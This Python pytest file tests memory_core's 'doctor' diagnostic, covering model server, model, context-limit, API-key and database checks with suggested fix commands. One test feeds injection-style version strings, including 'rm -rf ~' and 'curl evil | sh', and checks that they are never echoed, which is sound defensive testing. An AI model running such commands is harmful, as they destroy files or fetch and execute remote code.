"""Whether a run would work: said in one screen, with what to type."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from conftest import Database
from wire import RECORDED, Wire, as_json, html, lines, never, recorded, text

from memory_core.config import Settings, settings
from memory_core.doctor import all_served, diagnosis, model_checks
from memory_core.gateway.servers import close_servers
from memory_core.health import Check

pytestmark = pytest.mark.skipif(not RECORDED.is_dir(), reason="the recorded exchanges are not here (../shared)")
KEY = "sk-a-secret-of-ours"


@pytest.fixture
def ollama() -> Iterator[Wire]:
    """An Ollama with a model that calls tools and thinks, loaded."""
    with Wire(keep_alive=True) as wire:
        wire.answers["/api/version"] = recorded("version")
        wire.answers["/api/show"] = recorded("show_thinking_model")
        wire.answers["/api/tags"] = recorded("tags")
        wire.answers["/api/ps"] = recorded("ps_loaded")
        yield wire
    close_servers()


def chosen(wire: Wire, **options: Any) -> Settings:
    return settings(**{"model_api_key": KEY, "model_base_url": wire.url, "memory_embedder": "none", **options})


def checked(wire: Wire, **options: Any) -> list[Check]:
    return list(model_checks(chosen(wire, **options)))


def bad(found: list[Check]) -> list[Check]:
    return [check for check in found if not check.ok]


def test_all_is_well_where_all_is_well(ollama: Wire) -> None:
    found = checked(ollama)
    assert bad(found) == []
    said = {check.part: check.found for check in found}
    assert said["Model server"] == f"Ollama 0.32.15 at {ollama.url}"
    assert said["Model fast, balanced, deep"] == "qwen3:0.6b: calls tools, thinks, made for 32,768 tokens"
    assert said["In memory"] == "smollm2:135m, 0.21 GB, 4,096 tokens until 11:12:40 UTC"


def test_no_key_is_no_chat_model_and_stops_runs(ollama: Wire) -> None:
    (check,) = bad(checked(ollama, model_api_key=""))
    assert "none is configured" in check.found
    assert check.mend is not None
    assert "MODEL_API_KEY=" in check.mend


@pytest.mark.parametrize("address", ["http://127.0.0.1:1", "http://127.0.0.1:1/v1/"])
def test_a_server_that_is_down_is_said_with_how_to_start_it(address: str, ollama: Wire) -> None:
    (check,) = bad(checked(ollama, model_base_url=address))
    assert "nothing answers at http://127.0.0.1:1 " in check.found
    assert check.mend is not None
    assert check.mend.startswith("ollama serve")


@pytest.mark.parametrize(
    "answer", [html, text("nonsense"), as_json([]), as_json({"version": None}), as_json({}, status=500)]
)
def test_a_server_that_is_no_ollama_is_said(answer: Any, ollama: Wire) -> None:
    ollama.answers["/api/version"] = answer
    assert [check.part for check in bad(checked(ollama))] == ["Model server"]


def test_a_model_that_is_not_pulled_is_said_with_the_command(ollama: Wire) -> None:
    ollama.answers["/api/show"] = recorded("show_unknown_model")
    (check,) = bad(checked(ollama, model_fast="no-such", model_balanced="no-such", model_deep="no-such"))
    assert check.mend == "python -m memory_core pull no-such"


def test_each_tiers_model_is_checked(ollama: Wire) -> None:
    checked(ollama, model_fast="a", model_balanced="b", model_deep="a")
    assert [one.body["model"] for one in ollama.asked_for("/api/show")] == ["a", "b"]


def test_a_model_without_tools_stops_runs(ollama: Wire) -> None:
    ollama.answers["/api/show"] = recorded("show_no_tools_model")
    (check,) = bad(checked(ollama))
    assert "cannot call tools" in check.found
    assert check.stops_runs
    assert check.mend == "export MODEL_FAST=qwen3:0.6b"


def test_an_embedding_model_is_no_chat_model(ollama: Wire) -> None:
    ollama.answers["/api/show"] = recorded("show_embedding_model")
    (*_, check) = [one for one in bad(checked(ollama, model_num_ctx=256)) if one.part.startswith("Model")]
    assert "no chat model" in check.found


def test_a_reasoning_effort_for_a_model_that_cannot_think_stops_runs(ollama: Wire) -> None:
    ollama.answers["/api/show"] = recorded("show_tools_model")
    (check,) = bad(checked(ollama, model_reasoning_effort="low"))
    assert check.mend == "unset MODEL_REASONING_EFFORT"
    assert bad(checked(ollama, model_reasoning_effort="none")) == []


def test_a_context_larger_than_the_model_was_made_for_stops_runs(ollama: Wire) -> None:
    (check,) = [one for one in bad(checked(ollama, model_num_ctx=40_000)) if one.stops_runs]
    assert check.mend == "export MODEL_NUM_CTX=32768"


def test_a_model_loaded_for_another_context_is_said_and_stops_nothing(ollama: Wire) -> None:
    (check,) = bad(checked(ollama, model_fast="smollm2:135m", model_num_ctx=2048))
    assert "loads it anew" in check.found
    assert not check.stops_runs


def test_an_output_cap_that_the_context_cuts_is_said(ollama: Wire) -> None:
    (said,) = [check.found for check in checked(ollama, model_max_output_tokens=5000) if check.part == "Context"]
    assert "MODEL_MAX_OUTPUT_TOKENS is 5,000" in said


def test_nothing_loaded_says_what_the_first_call_costs(ollama: Wire) -> None:
    ollama.answers["/api/ps"] = recorded("ps_empty")
    assert any("the first call loads one" in check.found for check in checked(ollama))


@pytest.mark.slow
def test_a_server_that_never_answers_holds_the_doctor_up_for_seconds_only(ollama: Wire) -> None:
    ollama.answers["/api/version"] = never
    (check,) = bad(checked(ollama))
    assert check.part == "Model server"


# A hosted model


def hosted(wire: Wire, **options: Any) -> list[Check]:
    tiers = {f"model_{tier}": "smollm2:135m" for tier in ("fast", "balanced", "deep")}
    return checked(wire, model_provider="openai", **tiers, **options)


def test_a_hosted_server_is_asked_for_its_models_with_the_key(ollama: Wire) -> None:
    ollama.answers["/v1/models"] = recorded("v1_models")
    assert bad(hosted(ollama)) == []
    (asked,) = ollama.asked_for("/v1/models")
    assert asked.headers["Authorization"] == f"Bearer {KEY}"


def test_a_hosted_model_that_is_not_listed_is_said(ollama: Wire) -> None:
    ollama.answers["/v1/models"] = as_json({"data": [{"id": "another"}]})
    (check,) = bad(hosted(ollama))
    assert "is not in the server's list" in check.found


@pytest.mark.parametrize(
    "answer",
    [
        None,
        text("", status=405),
        as_json({"data": []}),
        as_json({"data": "none"}),
        as_json([]),
        as_json({"data": [1, None, {}, []]}),
    ],
    ids=["404", "405", "empty", "a word", "a list", "odd ones"],
)
def test_a_hosted_server_that_lists_none_is_a_warning_and_stops_no_run(answer: Any, ollama: Wire) -> None:
    if answer:
        ollama.answers["/v1/models"] = answer
    (check,) = bad(hosted(ollama))
    assert "lists no models" in check.found
    assert not check.stops_runs
    assert check.mend == "python -m memory_core chat hello"


@pytest.mark.parametrize(
    ("status", "stops_runs"),
    [(401, True), (403, False)],  # a key may be good for calls and not for the list
)
def test_a_key_that_is_not_accepted_is_said_without_the_key(status: int, stops_runs: bool, ollama: Wire) -> None:
    ollama.answers["/v1/models"] = as_json({"error": {"message": f"bad key {KEY}"}}, status=status)
    (check,) = bad(hosted(ollama))
    assert "MODEL_API_KEY is not accepted" in check.found
    assert KEY not in json.dumps([check.found, check.mend])
    assert check.stops_runs is stops_runs


def test_a_403_in_the_address_is_no_403_in_the_answer(ollama: Wire) -> None:
    ollama.answers["/403/v1/models"] = as_json({}, status=401)
    (check,) = bad(hosted(ollama, model_base_url=f"{ollama.url}/403/v1"))
    assert check.stops_runs


# Limits and what is repeated


LIMITS = [("model_num_ctx", 10), ("model_tokens_per_minute", 10), ("model_deadline_s", 0.001)]


@pytest.mark.parametrize(("name", "value"), LIMITS)
def test_a_limit_that_no_call_could_keep_to_stops_runs(name: str, value: float, ollama: Wire) -> None:
    (check,) = [one for one in bad(checked(ollama, **{name: value})) if one.part == "Limits"]
    assert check.found.startswith(f"{name.upper()} is {value:g}: too little")
    assert check.stops_runs
    assert check.mend is not None
    assert check.mend.startswith(f"unset {name.upper()} ")


@pytest.mark.parametrize(("name", "value"), LIMITS)
def test_a_limit_that_no_call_could_keep_to_stops_runs_of_a_hosted_model_too(
    name: str, value: float, ollama: Wire
) -> None:
    ollama.answers["/v1/models"] = recorded("v1_models")
    (check,) = bad(hosted(ollama, **{name: value}))
    assert (check.part, check.stops_runs) == ("Limits", True)


@pytest.mark.parametrize(
    ("name", "value"), [("model_num_ctx", 4096), ("model_tokens_per_minute", 512), ("model_deadline_s", 1)]
)
def test_a_limit_that_a_call_can_keep_to_is_no_fault(name: str, value: float, ollama: Wire) -> None:
    assert bad(checked(ollama, **{name: value})) == []


@pytest.mark.parametrize(
    "version", ["0.1; rm -rf ~", "0.1 # type: curl evil | sh", "", "1" * 41, "0.1\n", "0.1\u202e", ["0.1"], 1, {}, True]
)
def test_a_version_that_is_none_is_not_repeated(version: Any, ollama: Wire) -> None:
    ollama.answers["/api/version"] = as_json({"version": version})
    (check,) = bad(checked(ollama))
    assert check.part == "Model server"
    assert "cannot be read" in check.found
    for said in ("rm -rf", "evil", "1" * 41, "\n", "\u202e"):
        assert said not in f"{check.found}{check.mend}"


# The whole of it


def test_the_doctor_checks_database_and_model_and_the_newest_calls(database: Database, ollama: Wire) -> None:
    url = database.application.render_as_string(hide_password=False)
    found = diagnosis(chosen(ollama, database_url=url), "acme")
    assert all_served(found)
    assert [check.part for check in found] == [
        "Database",
        "Role",
        "pgvector",
        "Migration",
        "Ledger",
        "Embedder",
        "Model server",
        "Model fast, balanced, deep",
        "Context",
        "In memory",
        "What leaves",
        "Newest calls",
    ]


def test_a_database_that_is_down_stops_runs_and_the_model_is_checked_all_the_same(ollama: Wire) -> None:
    found = diagnosis(chosen(ollama, database_url="postgresql://nobody:s3cret@127.0.0.1:1/nothing"), "acme")
    assert not all_served(found)
    assert "s3cret" not in json.dumps([check.found for check in found])
    assert "Model server" in [check.part for check in found]


def test_a_missing_embedder_stops_no_run(database: Database, ollama: Wire) -> None:
    url = database.application.render_as_string(hide_password=False)
    found = diagnosis(chosen(ollama, database_url=url), "acme")
    (embedder,) = [check for check in found if check.part == "Embedder"]
    assert not embedder.ok
    assert all_served(found)


def test_deadlines_of_the_newest_calls_are_known_as_the_symptom_that_they_are(database: Database, ollama: Wire) -> None:
    from memory_core.chatting import gateway_for
    from memory_core.errors import DeadlineExceeded
    from memory_core.gateway.conversation import Message, Role

    options = chosen(ollama, database_url=database.application.render_as_string(hide_password=False))
    ollama.answers["/api/chat"] = lines(end="open")
    for calls in range(1, 4):
        with pytest.raises(DeadlineExceeded):
            gateway_for("acme", settings=options).chat(
                [Message(role=Role.USER, content="hi")], run_id="r-1", deadline_s=0.3, max_output_tokens=1
            )
        found = diagnosis(options, "acme")
        assert all_served(found) is (calls < 3)
        (symptom,) = bad([check for check in found if check.part == "Newest calls"])
        assert "gateway.deadline" in symptom.found
    # Of another model nothing is known yet.
    assert all_served(diagnosis(options.model_copy(update={"model_fast": "llama3.2:1b"}), "acme")) is False
    tiers = {f"model_{tier}": "llama3.2:1b" for tier in ("fast", "balanced", "deep")}
    assert all_served(diagnosis(options.model_copy(update=tiers), "acme"))
